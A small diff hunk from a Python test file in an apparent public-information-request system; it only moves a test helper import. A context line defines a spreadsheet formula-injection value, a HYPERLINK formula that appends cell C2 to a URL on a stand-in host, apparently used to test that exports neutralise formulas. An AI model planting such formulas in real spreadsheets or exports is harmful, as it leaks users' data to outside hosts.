@@ -25,7 +25,7 @@ from ppid_desk.notices.services import ConsequenceTestDraft, NoticeDraft, notice
 from ppid_desk.objections.filing_services import objection_file
 from ppid_desk.requests.models import InformationRequest
 from ppid_desk.web.spreadsheets import Sheet, csv_bytes, csv_cell, read_table, xlsx_bytes
-from tests.conftest import request_form
+from tests.helpers import request_form
 
 MON = datetime(2026, 3, 2, 3, 0, tzinfo=UTC)  # Mon 2 March 2026, 10:00 WIB
 NAME = '=HYPERLINK("http://x/?"&C2,"a")'
